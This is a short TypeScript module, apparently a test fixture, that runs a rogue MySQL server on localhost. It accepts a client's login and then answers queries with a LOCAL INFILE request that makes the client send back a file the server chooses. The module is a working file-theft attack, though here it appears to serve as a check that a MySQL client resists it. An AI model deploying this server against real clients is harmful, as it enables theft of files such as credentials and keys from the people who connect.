/** A server that speaks enough of MySQL's protocol to be logged in to, and then asks for a file of its client. */
import { createServer, type Socket } from 'node:net';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';

const packet = (sequence: number, payload: Buffer): Buffer => {
  const header = Buffer.alloc(4);
  header.writeUIntLE(payload.length, 0, 3);
  header.writeUInt8(sequence, 3);
  return Buffer.concat([header, payload]);
};

/** Among them: the client may send files (0x80), prepared statements, `mysql_native_password`. */
const CAPABILITIES = 0x0008_a28f;

const greeting = (): Buffer => {
  const numbers = Buffer.alloc(4 + 8 + 1 + 2 + 1 + 2 + 2 + 1 + 10 + 12 + 1, 0x41);
  numbers.writeUInt32LE(1, 0);
  numbers.writeUInt8(0, 12);
  numbers.writeUInt16LE(CAPABILITIES & 0xffff, 13);
  numbers.writeUInt8(45, 15);
  numbers.writeUInt16LE(2, 16);
  numbers.writeUInt16LE(CAPABILITIES >>> 16, 18);
  numbers.writeUInt8(21, 20);
  numbers.fill(0, 21, 31);
  numbers.writeUInt8(0, 43);
  return Buffer.concat([Buffer.from('\x0a8.0.36\0'), numbers, Buffer.from('mysql_native_password\0')]);
};

const OK = Buffer.from([0, 0, 0, 2, 0, 0, 0]);

/** Listens on a free port; `received` has all that clients sent after they logged in. */
export const startRogue = async (file: string) => {
  const received: Buffer[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.write(packet(0, greeting()));
    socket.once('data', () => {
      socket.write(packet(2, OK));
      socket.on('data', (chunk: Buffer) => {
        received.push(chunk);
        if (chunk[3] === 0) socket.write(packet(1, Buffer.concat([Buffer.from([0xfb]), Buffer.from(file)])));
        else socket.write(packet(3, OK));
      });
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return {
    port,
    received: () => Buffer.concat(received).toString(),
    close: () => {
      for (const socket of sockets) socket.destroy();
      server.close();
    },
  };
};
